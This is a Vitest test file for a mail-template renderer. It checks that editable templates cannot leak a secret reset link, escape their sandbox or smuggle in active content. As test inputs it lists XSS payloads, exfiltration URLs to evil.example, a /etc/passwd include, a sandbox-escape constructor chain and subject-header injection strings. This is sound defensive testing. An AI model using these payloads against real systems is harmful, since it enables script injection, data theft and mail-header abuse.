import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import * as settings from '../../../shared/i18n/areas/settings.ts'
import { ScriptPool } from '../../scripts/pool.ts'
import { expectNothingReached, layTreasure, removeTreasure, tricks } from '../../testing/templateTricks.ts'
import { linkPlace } from './mailHtml.ts'
import { type MailToRender, renderMail } from './mailTemplates.ts'

let pool: ScriptPool
beforeAll(() => {
  pool = new ScriptPool({ report: () => undefined, processes: 2 })
})
afterAll(() => pool.close())

const url = 'http://shop.localhost:4400'
const link = `${url}/reset/5ecre7`
const builtIn = { subject: 'Bienvenido a Tienda', text: `Abra ${link}\n` }
const values = {
  ...{ site: 'Tienda & Cía.', url, logo: `${url}/files/shop/abc` },
  ...{ email: 'ana@example.com', name: 'Ana <b>', invitedBy: '', language: 'es' as const },
}
const rendered = (mail: Partial<MailToRender>) => renderMail(pool, { owner: 'shop', values, link, builtIn, ...mail })
const htmlOf = async (body: string) => {
  const { content, failures } = await rendered({ body: `${body}<a href="<%= link %>">x</a>` })
  expect(failures).toEqual([])
  return (content.html ?? '').replace(`<a href="${link}">x</a>${written}`, '')
}
/** The link as Telar writes it behind the words of a template. */
const address = 'Si no se abre, copia esta dirección en el navegador:'
const written = `\n<hr /><p>${address}</p><p><a href="${link}">${link}</a></p>`

test('a mail is worded by its templates, as HTML and as a text; what is empty stays in Telar’s words', async () => {
  const body = '<h1>Hola <%= name %></h1><p>Eres parte de <b><%= site %></b>.<br><a href="<%= link %>">Entra</a></p>'
  const { content } = await rendered({ subject: '<%= site %> te espera', body })
  expect(content).toEqual({
    subject: 'Tienda & Cía. te espera',
    html: `<h1>Hola Ana &lt;b&gt;</h1><p>Eres parte de <b>Tienda &amp; Cía.</b>.<br /><a href="${link}">Entra</a></p>${written}`,
    text: `Hola Ana <b>\n\nEres parte de Tienda & Cía..\nEntra\n\n${address}\n\n${link}\n`,
  })
  expect((await rendered({ subject: 'Hola' })).content).toEqual({ ...builtIn, subject: 'Hola' })
  expect((await rendered({ subject: '', body: ' \n' })).content).toEqual(builtIn)
})

describe('the texts that editors begin with are mails', () => {
  for (const [language, texts] of Object.entries(settings))
    for (const [template, mail] of Object.entries(texts.mails.start))
      test(`${template} in ${language}, whether it is known who it is for and who invites`, async () => {
        const known = { ...values, name: 'Ana Rojas', invitedBy: 'Pedro' }
        const { content, failures } = await rendered({ ...mail, values: known })
        expect(failures).toEqual([])
        expect(content.subject).toContain('Tienda & Cía.')
        expect(content.text).toContain('Ana Rojas')
        expect(content.text.includes('Pedro')).toBe(template !== 'reset')
        const unknown = await rendered({ ...mail, values: { ...values, name: '' } })
        expect(unknown.failures).toEqual([])
        expect(unknown.content.text).toMatch(/^(Hola:|Hello,)\n/)
      })
})

describe('a template that cannot be used is told of, and Telar’s own words are sent', () => {
  test.each([
    ['what does not parse', '<p>\n<% if ( %>', { reason: 'error', line: 2 }],
    ['what throws', '<p>\n\n<%= missing.name %>', { reason: 'error', line: 3, message: 'missing is not defined' }],
    ['an include', "<%- include('/etc/passwd') %>", { reason: 'error' }],
    ['an endless loop', '<% for (;;) {} %>', { reason: 'timeout' }],
    ['a huge answer', `<%- 'x'.repeat(300_000) %>`, { reason: 'tooLarge' }],
    ['a body without the link', '<p>Hola</p>', { reason: 'noLink' }],
    [
      'a body that hides it in an address of others',
      '<a href="https://evil.example/?<%= link %>">x</a>',
      { reason: 'noLink' },
    ],
  ])('%s', async (_, body, failure) => {
    const { content, failures } = await rendered({ subject: 'Hola', body })
    expect(content).toEqual(builtIn)
    expect(failures).toMatchObject([{ part: 'body', ...failure }])
  })

  test('a subject of nothing, and what waits for its turn too long', async () => {
    expect(await rendered({ subject: '<%# nada %>' })).toMatchObject({
      content: builtIn,
      failures: [{ part: 'subject', reason: 'blank' }],
    })
  })
})

describe('the link of a mail is a secret that no template sees', () => {
  const spying = `<% const seen = [link, JSON.stringify(locals), Object.values(locals).join()].join() %>
    <p title="<%= seen %>"><%= btoa ? '' : '' %></p>`

  test('whatever a template makes of it, within an address or in another spelling, is not the link', async () => {
    for (const body of [
      '<a href="https://evil.example/?u=<%= link %>">a</a>',
      '<a href="https://evil.example/?u=<%= encodeURIComponent(link) %>">a</a>',
      '<img src="https://evil.example/<%= link %>">',
      `<img src="${url}/x?<%= link %>" alt="<%= link %>">`,
      '<p style="background: url(<%= link %>)" title="<%= link %>">a</p>',
      '<p><%= [...link].join(" ") %></p>',
      '<p><%= link.replace("telar", "tel\u00ADar") %></p>',
    ])
      expect(await htmlOf(body), body).not.toContain('5ecre7')
    const { failures } = await rendered({ body: spying })
    expect(failures).toHaveLength(1)
  })

  test('it stands alone on its line, whatever a template says before, behind and around its mark', async () => {
    const mark = '<%= link %>'
    for (const body of [
      `https://evil.example/?u=${mark}`,
      `<p>https://evil.example/?u=<b>${mark}</b>&x=1</p>`,
      `https://evil.example/?u=<a href="${mark}"></a>`,
      `https://evil.example/?u=<a href="${mark}">${mark}</a>`,
      `<a href="https://evil.example/?u=">${mark}</a>`,
      `<pre>https://evil.example/?${mark}</pre>`,
      `${mark}https://evil.example/?u=`,
      `<a href="${mark}">x</a>https://evil.example/?u=`,
      `${mark}.evil.example`,
    ]) {
      const { content, failures } = await rendered({ body })
      expect(failures, body).toEqual([])
      const lines = content.text.split('\n').filter(line => line.includes('5ecre7'))
      expect(lines, body).toEqual([link])
      const { html = '' } = content
      expect(html.endsWith(written), body).toBe(true)
      // Elsewhere it is all that an element leads to.
      const before = html.slice(0, -written.length).replaceAll(`href="${link}"`, '')
      expect(before, body).not.toContain('5ecre7')
    }
  })

  test('a mark without an element becomes a button of Telar’s', async () => {
    const { content } = await rendered({ body: '<p>Elige otra: <%= link %></p>' })
    expect(content.html).toBe(`<p>Elige otra: <a href="${link}">Abrir el enlace</a></p>${written}`)
    const { content: english } = await rendered({ body: '<%= link %>', values: { ...values, language: 'en' } })
    expect(english.html).toMatch(/^<a href="[^"]*">Open the link<\/a>/)
  })

  test('it is not in the subject, which mail servers read', async () => {
    const { content } = await rendered({ subject: 'Entra en <%= link %>' })
    expect(content.subject).toBe('Entra en')
  })

  test('the place that it has in a template is no address of anybody', () => {
    expect(new URL(linkPlace).hostname).toMatch(/\.invalid$/)
  })
})

describe('nothing that acts, and nothing that tells others that a mail was read', () => {
  test.each([
    '<script>alert(1)</script>',
    '<style>@import "https://evil.example/a.css"; p { background: url(https://evil.example/b) }</style>',
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    '<p onclick="alert(1)" style="background-image: url(https://evil.example/c)">a</p>',
    '<p style="background: u\\72l(https://evil.example/d)">a</p>',
    '<p style="width: expression(alert(1))">a</p>',
    '<p style="color: red; background-color: image-set(\'https://evil.example/e\' 1x)">a</p>',
    '<img src="https://evil.example/f" onerror="alert(1)">',
    '<img src="//evil.example/g">',
    '<img srcset="https://evil.example/h 2x" src="data:image/svg+xml,<svg onload=alert(1)>">',
    `<img src="${url}@evil.example/i">`,
    `<img src="${url}.evil.example/j">`,
    '<table background="https://evil.example/k"><tr><td background="https://evil.example/l">a</td></tr></table>',
    '<iframe src="https://evil.example/m"></iframe><object data="https://evil.example/n"></object>',
    '<svg><image href="https://evil.example/o"/></svg><math><mi xlink:href="https://evil.example/p">a</mi></math>',
    '<video poster="https://evil.example/q" src="https://evil.example/r"></video>',
    '<form action="https://evil.example/s"><input name="password"><button>a</button></form>',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0; url=https://evil.example/t">',
    '<a href="javascript:alert(1)">a</a><a href="data:text/html,<script>alert(1)</script>">b</a>',
    '</body></html><script>alert(1)</script>',
    '<<script>script>alert(1)<</script>/script>',
    '<p title="--><img src=https://evil.example/u>">a</p>',
  ])('%s', async body => {
    const html = await htmlOf(body)
    expect(html).not.toMatch(
      /<(?!\/?(?:p|a|table|tbody|tr|td)\b)|\son\w+=|javascript:|expression|url\(|import|data:|<img/i,
    )
    expect(html.replace(/ title="[^"]*"/g, '')).not.toContain('evil.example')
  })

  test('a picture of the environment itself stays', async () => {
    expect(await htmlOf('<img src="<%= logo %>" alt="Logo" onload="x()">')).toBe(
      `<img src="${values.logo}" alt="Logo" />`,
    )
  })

  test.each(['\r\n', '\n', '\u2028', '\u0085', '\0'])('a subject adds no header by %j', async lineBreak => {
    const { content } = await rendered({
      subject: `Hola${lineBreak}Bcc: all@example.com<%= ${JSON.stringify(`${lineBreak}X: y`)} %>`,
    })
    expect(content.subject).toBe('Hola Bcc: all@example.com X: y')
  })

  test('what somebody calls himself leads nowhere', async () => {
    for (const name of ['Gana en evil.example', 'http://evil', 'a@evil.example', 'evil.example/x']) {
      const { content } = await rendered({ values: { ...values, name }, subject: '[<%= name %>]' })
      expect(content.subject).toBe('[]')
    }
  })

  test('there is no Node around a template', async () => {
    const { content } = await rendered({
      subject: '<%= [typeof process, typeof require, this?.constructor?.constructor("return typeof process")()] %>',
    })
    expect(content.subject).toBe('undefined,undefined,undefined')
  })
})

describe('no trick of a template gets out of a mail', () => {
  beforeAll(layTreasure)
  afterAll(removeTreasure)

  test.each(tricks)('%s', async (_name, { template, data }) => {
    const subject = `a ${template}`
    const hostile = { ...values, ...(data as object) }
    const { content, failures } = await rendered({ values: hostile, subject, body: `<%= link %><br>${template}` })
    expectNothingReached([content, failures])
    expect(content.subject).not.toBe('')
    expect(content.text).toContain(link)
  })
})
